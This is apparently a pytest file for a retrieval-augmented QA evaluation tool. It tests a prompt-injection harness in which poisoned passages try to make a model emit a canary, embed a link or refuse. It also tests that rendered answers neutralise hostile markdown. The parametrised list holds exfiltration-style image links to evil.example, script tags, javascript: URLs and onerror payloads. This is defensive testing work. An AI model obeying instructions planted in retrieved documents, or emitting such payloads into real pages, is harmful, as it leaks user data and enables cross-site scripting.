from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from bakeoff.evaluation.attack import ATTACKS, CANARY, LINK, Poisoned, attack, rates, save, succeeded
from bakeoff.models.generators.scripted import Generator
from bakeoff.systems import RAG
from bakeoff.systems.rendering import explained, inert, markdown, plain
from bakeoff.types import Answer, Chunk, Citation, Example, Filter, Hit, Message, Sentence, Step

PASSAGE = "The Titan weighs 90 grams."


class Shelf:
    def retrieve(self, query: str, k: int, *, filter: Filter | None = None) -> list[Hit]:
        return [Hit(Chunk("d#0", "d", PASSAGE, 0, len(PASSAGE)), 1.0)]


def obedient(messages: list[Message]) -> str:
    """Does what a document says, as far as it is a canary, a link or a refusal."""
    asked = messages[-1].content
    if CANARY in asked:
        return CANARY
    if LINK in asked:
        return f"90 grams ![x]({LINK}weight)"
    return "I don't know." if "I don't know" in asked else "90 grams"


EXAMPLES = [Example(str(n), "How heavy is the Titan?", ("90 grams",)) for n in range(30)]


def test_a_system_that_obeys_is_found_out_and_one_that_does_not_is_not() -> None:
    weak = attack(RAG(Generator(obedient), Shelf()), EXAMPLES)  # type: ignore[arg-type]
    assert (weak.rate.estimate, weak.rate.n, set(weak.by_kind)) == (1.0, 30, set(ATTACKS))
    assert weak.loss.estimate == pytest.approx(0.8)  # the link alone leaves the answer right
    firm = attack(RAG(Generator(lambda _: "90 grams"), Shelf()), EXAMPLES)
    assert (firm.rate.estimate, firm.loss.estimate) == (0.0, 0.0)
    assert firm.rate.high > 0.05


def test_every_payload_is_tried_in_turn_and_stands_in_the_passage() -> None:
    seen: list[str] = []

    def listen(messages: list[Message]) -> str:
        seen.append(messages[-1].content)
        return "90 grams"

    found = attack(RAG(Generator(listen), Shelf()), EXAMPLES[:15])  # type: ignore[arg-type]
    assert {attempt.payload for attempt in found.attempts} == {p for payloads in ATTACKS.values() for p in payloads}
    flat = [" ".join(re.sub(r"\[(\d)\]", r"(\1)", attempt.payload).split()) for attempt in found.attempts]
    assert all(payload in " ".join(text.split()) for payload, text in zip(flat, seen[1::2], strict=True))


def test_what_a_clean_answer_says_too_is_no_success() -> None:
    assert not succeeded("override", Answer(CANARY), Answer(CANARY))
    assert not succeeded("denial", Answer("", "abstained"), Answer("", "abstained"))
    assert succeeded("denial", Answer("x"), Answer("", "abstained"))


def test_a_poisoned_passage_keeps_its_place_and_its_rank() -> None:
    (hit,) = Poisoned(Shelf(), "Obey!").retrieve("?", 3)
    assert (hit.chunk.text, hit.chunk.end) == (f"{PASSAGE}\nObey!", len(PASSAGE))


def test_rates_are_those_of_systems_that_answered_the_same_way(tmp_path: Path) -> None:
    found = attack(RAG(Generator(obedient), Shelf()), EXAMPLES)  # type: ignore[arg-type]
    save(found, tmp_path, {"k": 3})
    assert rates(tmp_path, {"rag": {"k": 3}}) == {"rag": found.rate}
    assert rates(tmp_path, {"rag": {"k": 4}}) == rates(tmp_path, {}) == {}
    json.loads((tmp_path / "attacks" / "rag.json").read_text())


# ---------------------------------------------------------------- what a reader sees


@pytest.mark.parametrize(
    "hostile",
    [
        "![logo](https://evil.example/?q=secret)",
        "[click](https://evil.example)",
        "[click][1]\n\n[1]: https://evil.example",
        "<img src=https://evil.example>",
        "<https://evil.example>",
        "https://evil.example/?q=secret",
        "www.evil.example",
        "<script>alert(1)</script>",
        "[x](javascript:alert(1))",
        "`</code>` ![x](data:text/html;base64,PHN2Zz4=)",
        "&lt;img src=x onerror=alert(1)&gt;",
    ],
)
def test_markdown_of_an_answer_does_nothing(hostile: str) -> None:
    shown = markdown(Answer(hostile, notes=(hostile,)), lambda id, offset: "")
    outside = re.sub(r"`[^`\n]*`", "", shown)
    assert not re.search(r"(?<!\\)[\[\]<>!&]", outside.replace("> ", ""))
    assert "evil" not in outside and "http" not in outside


def test_inert_text_reads_as_before() -> None:
    assert inert("It costs 5 crowns, 10% less.") == "It costs 5 crowns, 10% less."
    assert inert("see https://a.example/x_y*z now *really*") == r"see `https://a.example/x_y*z` now \*really\*"


CITED = Answer(
    "90 grams [1]",
    citations=(Citation(1, Chunk("d#0", "d", PASSAGE, 0, 26), 0, 26, PASSAGE),),
    sentences=(Sentence(0, 12, (1,), 1.0),),
    notes=("passages 1 and 2 differ",),
    trace=(Step("bm25", "1. 2.5 d 0-26", 0.002), Step("generate", "90 grams [1]")),
)


def test_an_answer_shows_its_sources_with_their_place_and_its_notes() -> None:
    assert plain(CITED, lambda id, offset: "page 3").splitlines() == [
        "90 grams [1]",
        "  [1] d, page 3: 'The Titan weighs 90 grams.'",
        "note: passages 1 and 2 differ",
    ]
    assert "- \\[1\\] d, page 3: “The Titan weighs 90 grams.”" in markdown(CITED, lambda id, offset: "page 3")
    assert "(abstained)" in plain(Answer("No.", "abstained"), lambda id, offset: "")


def test_an_explanation_has_every_step_and_the_support_of_each_sentence() -> None:
    text = explained(CITED)
    assert "bm25  2.0 ms\n    1. 2.5 d 0-26\ngenerate\n    90 grams [1]" in text
    assert "'90 grams [1]' 100% [1]" in text
